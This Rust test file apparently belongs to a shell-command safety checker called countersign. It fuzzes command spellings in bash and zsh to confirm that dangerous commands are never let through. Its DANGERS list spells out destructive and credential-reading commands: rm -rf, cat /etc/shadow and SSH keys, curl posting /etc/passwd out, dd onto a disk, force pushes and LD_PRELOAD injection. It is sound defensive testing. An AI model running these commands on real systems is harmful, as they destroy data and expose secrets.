//! Commands spelled in all ways that a shell has: no spelling is let through that a shell would run as a danger.
//!
//! Every input has a number. COUNTERSIGN_SEED is the first one (fresh and printed, if it is not set) and
//! COUNTERSIGN_INPUTS how many follow; so a long run is made of ranges, each beginning where the last one ended:
//!
//!     COUNTERSIGN_SEED=0 COUNTERSIGN_INPUTS=1000000 cargo bench --test mutation -- --test no_mutant_of_a_danger --nocapture
//!
//! (`cargo bench` builds it optimised.)

#[path = "../support/cage.rs"]
mod cage;
mod mutate;
#[path = "../support/parallel.rs"]
mod parallel;
#[path = "../support/random.rs"]
mod random;
#[path = "../support/shells.rs"]
#[allow(dead_code, reason = "another test checks the syntax alone")]
mod shells;
#[path = "../support/mod.rs"]
#[allow(dead_code, reason = "another test uses the rest")]
mod support;

use std::collections::HashMap;
use std::ops::Range;
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::Path;
use std::time::Duration;

use countersign::assess::bash;
use countersign::effect::Tier;
use countersign::facts::Facts;
use mutate::{Mutant, mutant};
use nix::sys::resource::{UsageWho, getrusage};
use nix::sys::time::TimeVal;
use parallel::in_parallel;
use shells::Shell;
use support::Machine;

/// Commands that must never be let through.
const DANGERS: &[&[&str]] = &[
    &["rm", "-rf", "~"],
    &["rm", "-rf", "/usr"],
    &["rm", "-r", "-f", "src"],
    &["rm", "notes.txt"],
    &["sudo", "id"],
    &["cat", "/etc/shadow"],
    &["cat", "~/.ssh/id_rsa"],
    &["cat", ".env"],
    &["cat", "~/letter.txt"],
    &["curl", "-d", "@/etc/passwd", "https://example.invalid/x"],
    &["curl", "https://example.invalid/x", "-o", "/usr/bin/ls"],
    &["wget", "https://example.invalid/x"],
    &["dd", "if=/dev/zero", "of=/dev/sda"],
    &["git", "push", "--force", "origin", "main"],
    &["git", "checkout", "--", "."],
    &["git", "reset", "--hard"],
    &["git", "clean", "-fdx"],
    &["git", "-c", "core.pager=./x", "log"],
    &["git", "log", "--output=x"],
    &["git", "config", "--global", "core.hooksPath", "/x"],
    &["find", ".", "-delete"],
    &["find", ".", "-name", "*.rs", "-exec", "rm", "{}", ";"],
    &["sort", "-o", "list.txt", "README.md"],
    &["sed", "-i", "s/a/b/", "README.md"],
    &["rg", "--pre", "./x", "a"],
    &["tee", "~/.bashrc"],
    &["cp", "notes.txt", "~/.zshrc"],
    &["chmod", "-R", "777", "/"],
    &["bash", "-c", "rm -rf /usr"],
    &["python3", "-c", "import os"],
    &["npm", "publish"],
    &["env", "LD_PRELOAD=./x.so", "ls"],
    &["xargs", "rm"],
    &["tar", "-xf", "x.tar", "-C", "/"],
    &["ssh", "host", "reboot"],
    &["./nothing.sh"],
    &["no-such-program", "a b"],
];

/// Commands that are let through.
const SAFE: &[&[&str]] = &[
    &["ls", "-la", "src"],
    &["cat", "README.md"],
    &["git", "status"],
    &["git", "log", "--oneline", "-5"],
    &["git", "diff", "HEAD", "--", "src"],
    &["rg", "-n", "TODO", "src"],
    &["grep", "-rn", "fn a", "src"],
    &["find", "src", "-name", "*.rs"],
    &["sort", "list.txt"],
    &["head", "-n", "5", "README.md"],
    &["sed", "-n", "1,5p", "README.md"],
    &["wc", "-l", "src/main.rs"],
    &["diff", "README.md", "list.txt"],
    &["jq", ".name", "package.json"],
    &["timeout", "5", "ls"],
    &["env", "LC_ALL=C", "ls"],
];

/// How many inputs a test tries, if COUNTERSIGN_INPUTS does not say.
const INPUTS: u64 = 2_000;
/// No input takes more of a processor, even in a debug build.
const PATIENCE: Duration = Duration::from_secs(2);

/// So many inputs at most are judged by what is known of one machine, and run by one process of a shell.
const AT_ONCE: u64 = 10_000;

/// The numbers of this run, `share` of a hundred of them.
fn numbers(share: u64) -> Range<u64> {
    let set = |name: &str| std::env::var(name).ok().map(|text| text.parse().expect("a number"));
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .expect("the clock is past 1970");
    let first: u64 = set("COUNTERSIGN_SEED").unwrap_or(now.as_secs() * 1_000_000 + u64::from(now.subsec_micros()));
    let inputs = set("COUNTERSIGN_INPUTS").unwrap_or(INPUTS) * share / 100;
    println!("COUNTERSIGN_SEED={first}: inputs {first} to {}", first + inputs);
    first..first + inputs
}

/// The numbers of this run in parts, at least one for each processor.
fn parts() -> Vec<Range<u64>> {
    let Range { start, end } = numbers(100);
    let threads = std::thread::available_parallelism().map_or(1, |count| count.get() as u64);
    let size = (end - start).div_ceil(threads).clamp(1, AT_ONCE);
    let starts = (start..end).step_by(usize::try_from(size).expect("a part is small"));
    starts.map(|first| first..end.min(first + size)).collect()
}

/// What this thread has taken of a processor so far.
fn processor_time() -> Duration {
    let usage = getrusage(UsageWho::RUSAGE_THREAD).expect("the usage of this thread");
    let micros = |time: TimeVal| Duration::from_micros((time.tv_sec() * 1_000_000 + time.tv_usec()) as u64);
    micros(usage.user_time()) + micros(usage.system_time())
}

fn is_let_through(text: &str, project: &Path, facts: &Facts) -> bool {
    let found = bash::assess(text, Some(project), facts);
    found.proven() && found.tier == Tier::Safe
}

fn bases() -> Vec<&'static [&'static str]> {
    DANGERS.iter().chain(SAFE).copied().collect()
}

/// A word as it stands, for any shell; the parser takes no bare control characters.
fn written(word: &str) -> String {
    let mut text = String::from("$'");
    for c in word.chars() {
        match c {
            '\'' | '\\' => text.extend(['\\', c]),
            _ if c.is_ascii_control() => text.push_str(&format!("\\x{:02x}", u32::from(c))),
            _ => text.push(c),
        }
    }
    text + "'"
}

#[test]
fn no_mutant_of_a_danger_is_let_through_and_none_panics_or_hangs() {
    let machine = Machine::new();
    let project = machine.project();
    let bases = bases();
    let wrong = in_parallel(&parts(), |part| {
        let facts = machine.facts();
        let mut wrong = Vec::new();
        for number in part.clone() {
            let Mutant { text, base, is_same } = mutant(number, &bases);
            let start = processor_time();
            match catch_unwind(AssertUnwindSafe(|| is_let_through(&text, &project, &facts))) {
                Err(_) => wrong.push(format!("{number}: panics: {text:?}")),
                Ok(true) if is_same && DANGERS.contains(&base) => {
                    wrong.push(format!("{number}: let through: {text:?}, which is {base:?}"));
                }
                Ok(_) => {
                    let took = processor_time() - start;
                    if took > PATIENCE {
                        wrong.push(format!("{number}: takes {took:?}: {text:?}"));
                    }
                }
            }
        }
        wrong
    });
    assert!(wrong.is_empty(), "{}:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn the_bases_are_what_they_are_called() {
    let machine = Machine::new();
    let facts = machine.facts();
    let source = |base: &[&str]| {
        let words = base.iter().map(|word| {
            if word.starts_with('~') {
                (*word).to_owned()
            } else {
                written(word)
            }
        });
        words.collect::<Vec<_>>().join(" ")
    };
    for (kind, through) in [(DANGERS, false), (SAFE, true)] {
        for base in kind {
            assert_eq!(
                is_let_through(&source(base), &machine.project(), &facts),
                through,
                "{base:?}"
            );
        }
    }
}

/// What a shell ran of each mutant that is let through is let through by itself, word for word.
#[track_caller]
fn assert_runs_only_what_is_harmless(shell: Shell) {
    shells::check_programs();
    let machine = Machine::new();
    let (project, bases) = (machine.project(), bases());
    let home = machine.home().to_string_lossy().into_owned();
    let parts = in_parallel(&parts(), |part| {
        let facts = machine.facts();
        let mutants = part.clone().map(|number| mutant(number, &bases).text);
        let through: Vec<String> = mutants.filter(|text| is_let_through(text, &project, &facts)).collect();
        // Most mutants run one of few commands.
        let mut harmless: HashMap<String, bool> = HashMap::new();
        let mut ran = 0;
        let mut wrong = Vec::new();
        for (text, commands) in through.iter().zip(shells::tried(shell, &through)) {
            for words in commands {
                ran += 1;
                let words = words.iter().map(|word| written(&word.replace(cage::HOME, &home)));
                let command = words.collect::<Vec<_>>().join(" ");
                let is_harmless = harmless
                    .entry(command.clone())
                    .or_insert_with_key(|command| is_let_through(command, &project, &facts));
                if !*is_harmless {
                    wrong.push(format!("{shell:?} ran {command} of {text:?}"));
                }
            }
        }
        vec![(through.len(), ran, wrong)]
    });
    let through: usize = parts.iter().map(|(through, _, _)| through).sum();
    let ran: usize = parts.iter().map(|(_, ran, _)| ran).sum();
    let wrong: Vec<&String> = parts.iter().flat_map(|(_, _, wrong)| wrong).collect();
    println!("{through} are let through; {shell:?} ran {ran} commands of them");
    assert!(
        ran > through / 2,
        "{shell:?} ran almost nothing: the cage does not work"
    );
    let shown: Vec<&str> = wrong.iter().map(|text| text.as_str()).collect();
    assert!(wrong.is_empty(), "{}:\n{}", wrong.len(), shown.join("\n"));
}

#[test]
fn what_bash_runs_of_a_mutant_that_is_let_through_is_harmless() {
    assert_runs_only_what_is_harmless(Shell::Bash);
}

#[test]
fn what_zsh_runs_of_a_mutant_that_is_let_through_is_harmless() {
    assert_runs_only_what_is_harmless(Shell::Zsh);
}

#[test]
fn bash_runs_a_mutant_that_is_only_spelled_otherwise_as_the_command_itself() {
    shells::check_programs();
    let bases = bases();
    let same: Vec<Mutant> = numbers(10)
        .map(|number| mutant(number, &bases))
        .filter(|m| m.is_same)
        .collect();
    let texts: Vec<String> = same.iter().map(|mutant| mutant.text.clone()).collect();
    let runs = shells::tried(Shell::Bash, &texts);
    let of_the_shell = |base: &[&str]| ["./nothing.sh"].contains(&base[0]);
    let mut wrong = Vec::new();
    for (mutant, commands) in same.iter().zip(&runs).filter(|(mutant, _)| !of_the_shell(mutant.base)) {
        let words = mutant.base.iter().map(|word| match word.strip_prefix('~') {
            Some(rest) => format!("{}{rest}", cage::HOME),
            None => (*word).to_owned(),
        });
        let words: Vec<String> = words.collect();
        if !commands.contains(&words) {
            wrong.push(format!("{:?}: {words:?}, but {commands:?}", mutant.text));
        }
    }
    println!("{} of {} are the command itself", same.len() - wrong.len(), same.len());
    assert!(wrong.len() * 50 <= same.len(), "{}:\n{}", wrong.len(), wrong.join("\n"));
}
